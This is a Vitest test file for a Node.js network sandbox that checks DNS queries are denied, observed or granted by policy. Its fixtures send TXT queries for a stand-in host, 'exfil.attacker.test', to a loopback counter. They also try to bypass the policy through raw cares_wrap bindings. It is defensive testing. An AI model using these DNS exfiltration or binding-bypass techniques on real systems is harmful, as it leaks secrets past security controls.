// DNS: every query is outbound traffic (a TXT query for '<secret>.attacker.example' exfiltrates).
// Queries go to a fake DNS server on loopback that only counts packets (it never answers); names
// outside /etc/hosts are never sent to the system resolver.
import { beforeAll, describe, expect, it } from 'vitest';
import { appResult, ensureAgentBuilt, fixturePath, policy, runFixture } from './harness.js';

const helpers = JSON.stringify(fixturePath('net-helpers.cjs'));
// 127.0.0.1 is allowed as an address too, so the fake server is reachable from the first line on
const DENY = policy({ name: 'dns-deny', network: 'deny', allowedDomains: ['localhost', '127.0.0.1'] });
const OBSERVE = policy({ name: 'dns-observe', network: 'observe' });
const GRANT = policy({ name: 'dns-grant', network: 'grant' });

/** Runs `query` (JS evaluating to a promise, with `server` = the fake DNS server) and reports. */
function queryFixture(query: string): string {
  return `
    const { udpServer, outcome, settle, report } = require(${helpers});
    const dns = require('node:dns');
    const { promisify } = require('node:util');
    (async () => {
      const server = await udpServer('127.0.0.1');
      const servers = ['127.0.0.1:' + server.port];
      const result = await outcome(() => ${query});
      await settle();
      report({ error: result.error, packets: server.received() });
      server.close();
    })();
  `;
}

const CALLBACK_RESOLVER = `new Promise((resolve, reject) => {
  const resolver = new dns.Resolver({ timeout: 100, tries: 1 });
  resolver.setServers(servers);
  resolver.resolveTxt('exfil.attacker.test', (error, records) => (error ? reject(error) : resolve(records)));
})`;

beforeAll(() => ensureAgentBuilt(), 120_000);

describe('dns queries under deny', () => {
  it('denies Resolver#resolveTxt to a name no allowed domain matches; no packet leaves', async () => {
    const run = await runFixture({ policy: DENY, source: queryFixture(CALLBACK_RESOLVER) });
    expect(appResult(run)).toEqual({ error: 'ERR_ACCESS_DENIED', packets: 0 });
    expect(run.events).toHaveLength(1);
    expect(run.events[0]).toMatchObject({
      action: 'deny',
      operation: 'dns',
      target: 'exfil.attacker.test',
      details: { rrtype: 'TXT' },
    });
  });

  it('denies dns.promises.Resolver#resolveTxt with a rejection', async () => {
    const run = await runFixture({
      policy: DENY,
      source: queryFixture(`(() => {
        const resolver = new dns.promises.Resolver({ timeout: 100, tries: 1 });
        resolver.setServers(servers);
        return resolver.resolveTxt('exfil.attacker.test');
      })()`),
    });
    expect(appResult(run)).toEqual({ error: 'ERR_ACCESS_DENIED', packets: 0 });
  });

  it('denies the module-level dns.resolveTxt and dns.promises.resolve after setServers', async () => {
    const callback = await runFixture({
      policy: DENY,
      source: queryFixture(`(dns.setServers(servers), promisify(dns.resolveTxt)('exfil.attacker.test'))`),
    });
    expect(appResult(callback)).toEqual({ error: 'ERR_ACCESS_DENIED', packets: 0 });
    const promise = await runFixture({
      policy: DENY,
      source: queryFixture(
        `(dns.promises.setServers(servers), dns.promises.resolve('exfil.attacker.test', 'TXT'))`,
      ),
    });
    expect(appResult(promise)).toEqual({ error: 'ERR_ACCESS_DENIED', packets: 0 });
  });

  it('denies dns.lookup and dns.promises.lookup of a name no allowed domain matches', async () => {
    const run = await runFixture({
      policy: DENY,
      source: `
        const { outcome, report } = require(${helpers});
        const dns = require('node:dns');
        (async () => {
          const callback = await outcome(() => new Promise((resolve, reject) =>
            dns.lookup('blocked.test', (error, address) => (error ? reject(error) : resolve(address)))));
          const promise = await outcome(() => dns.promises.lookup('blocked-promise.test'));
          const allowed = await outcome(() => dns.promises.lookup('localhost'));
          report({ callback: callback.error, promise: promise.error, allowed: allowed.value.address });
        })();
      `,
    });
    expect(appResult(run)).toEqual({
      callback: 'ERR_ACCESS_DENIED',
      promise: 'ERR_ACCESS_DENIED',
      allowed: '127.0.0.1',
    });
    expect(run.events.map((event) => event.target)).toEqual(['blocked.test', 'blocked-promise.test']);
  });

  it('refuses to point a resolver at a DNS server that is not allowed', async () => {
    const run = await runFixture({
      policy: DENY,
      source: `
        const { report } = require(${helpers});
        const dns = require('node:dns');
        let error;
        try { new dns.Resolver().setServers(['127.0.0.2:5353']); } catch (thrown) { error = thrown.code; }
        let moduleError;
        try { dns.setServers(['127.0.0.2']); } catch (thrown) { moduleError = thrown.code; }
        report({ error, moduleError, servers: dns.getServers() });
      `,
    });
    const outcome = appResult<{ error: string; moduleError: string; servers: string[] }>(run);
    expect(outcome.error).toBe('ERR_ACCESS_DENIED');
    expect(outcome.moduleError).toBe('ERR_ACCESS_DENIED');
    expect(outcome.servers).not.toContain('127.0.0.2');
    expect(run.events[0]).toMatchObject({ action: 'deny', target: '127.0.0.2:5353' });
  });

  it('denies dns.lookupService (a PTR query) for an address not allowed', async () => {
    const run = await runFixture({
      policy: DENY,
      source: `
        const { outcome, report } = require(${helpers});
        const dns = require('node:dns');
        (async () => {
          const result = await outcome(() => dns.promises.lookupService('127.0.0.2', 22));
          report({ error: result.error });
        })();
      `,
    });
    expect(appResult(run)).toEqual({ error: 'ERR_ACCESS_DENIED' });
  });
});

describe('dns at the cares_wrap binding', () => {
  it('refuses a raw ChannelWrap#queryTxt (reached through resolver._handle); no packet leaves', async () => {
    const run = await runFixture({
      policy: DENY,
      source: queryFixture(`new Promise((resolve, reject) => {
        const resolver = new dns.Resolver({ timeout: 100, tries: 1 });
        resolver.setServers(servers);
        const { QueryReqWrap } = process.binding('cares_wrap');
        const request = new QueryReqWrap();
        request.oncomplete = (status) => (status ? reject(Object.assign(new Error('failed'), { code: status })) : resolve());
        const status = resolver._handle.queryTxt(request, 'exfil.attacker.test', false);
        if (status !== 0) reject(Object.assign(new Error('refused'), { code: 'REFUSED_' + status }));
      })`),
    });
    const outcome = appResult<{ error: string; packets: number }>(run);
    expect(outcome.error).toMatch(/^REFUSED_-\d+$/);
    expect(outcome.packets).toBe(0);
    expect(run.events[0]).toMatchObject({ action: 'deny', operation: 'dns', target: 'exfil.attacker.test' });
  });

  it('refuses a raw getaddrinfo of a name no allowed domain matches', async () => {
    const run = await runFixture({
      policy: DENY,
      source: `
        const { report } = require(${helpers});
        const { GetAddrInfoReqWrap, getaddrinfo } = process.binding('cares_wrap');
        const request = new GetAddrInfoReqWrap();
        request.oncomplete = () => {};
        report({ status: getaddrinfo(request, 'blocked.test', 0, 0, 0) });
      `,
    });
    expect(appResult<{ status: number }>(run).status).toBeLessThan(0);
    expect(run.events[0]).toMatchObject({ action: 'deny', operation: 'dns', target: 'blocked.test' });
  });
});

describe('dns under observe and grant', () => {
  it('lets the query out and reports it under observe', async () => {
    const run = await runFixture({ policy: OBSERVE, source: queryFixture(CALLBACK_RESOLVER) });
    const outcome = appResult<{ error: string; packets: number }>(run);
    expect(outcome.error).not.toBe('ERR_ACCESS_DENIED');
    expect(outcome.packets).toBeGreaterThan(0);
    const dnsEvents = run.events.filter((event) => event.operation === 'dns');
    expect(dnsEvents).toHaveLength(1);
    expect(dnsEvents[0]).toMatchObject({ action: 'observe', target: 'exfil.attacker.test' });
  });

  it('reports dns.lookup under observe, once', async () => {
    const run = await runFixture({
      policy: OBSERVE,
      source: `
        const { report } = require(${helpers});
        require('node:dns').lookup('localhost', (error, address) => report({ address }));
      `,
    });
    expect(appResult(run)).toEqual({ address: '127.0.0.1' });
    expect(run.events).toHaveLength(1);
    expect(run.events[0]).toMatchObject({ action: 'observe', operation: 'dns', target: 'localhost' });
  });

  it('lets the query out silently under grant', async () => {
    const run = await runFixture({ policy: GRANT, source: queryFixture(CALLBACK_RESOLVER) });
    expect(appResult<{ packets: number }>(run).packets).toBeGreaterThan(0);
    expect(run.events).toEqual([]);
  });
});
